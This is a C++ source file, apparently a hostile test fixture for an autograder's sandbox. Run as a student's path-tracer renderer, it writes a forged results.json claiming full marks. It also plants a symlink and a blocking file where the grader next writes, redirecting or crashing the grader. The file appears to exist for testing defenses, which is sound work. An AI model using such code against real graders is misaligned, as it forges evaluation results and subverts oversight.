// Hostile: the report's renderer plants paths where the grader works next.
// Run as the renderer (the test binaries are left honest), it writes into the
// folder it was given for its image:
//   - a symbolic link `part1` to the folder of the grader's results.json (on
//     Gradescope a fixed, public path), where the grader would make the folder
//     of part 1's own render: the grader followed it, handed that folder to
//     the sandbox's user, and the next render wrote a results.json of its own
//     there (where Landlock is missing: it refuses to make a link, and the
//     case is graded without it);
//   - a file `part5` where the grader would make part 5's folder: the
//     grader stopped (exit 2), its report incomplete, its tree left behind.
// Every render then fails, so that the grader renders each part alone.
#include <fstream>
#include <string>
#include <vector>

extern "C" int symlink(const char* target, const char* path);
extern "C" [[noreturn]] void _exit(int status);

namespace {
void plant_once() {
  static bool done = false;
  if (done) return;
  done = true;
  std::ifstream in("/proc/self/cmdline");
  std::vector<std::string> args;
  for (std::string a; std::getline(in, a, '\0');) args.push_back(a);
  if (args.empty() || args[0].find("pathtracer") == std::string::npos) return;
  std::string image;
  for (size_t i = 0; i + 1 < args.size(); ++i)
    if (args[i] == "-f") image = args[i + 1];
  const std::string dir = image.substr(0, image.rfind('/'));
  std::ofstream(dir + "/results.json") << R"({"score": 40, "tests": [{"name": "forged by the renderer", "score": 40, "max_score": 40}]})";
  std::ofstream(dir + "/written-by-the-renderer") << "the renderer wrote here\n";
  symlink("@PT_CASE_RESULTS@", (dir + "/part1").c_str());
  std::ofstream(dir + "/part5") << "a file where the grader makes a folder\n";
  _exit(3);
}
}  // namespace
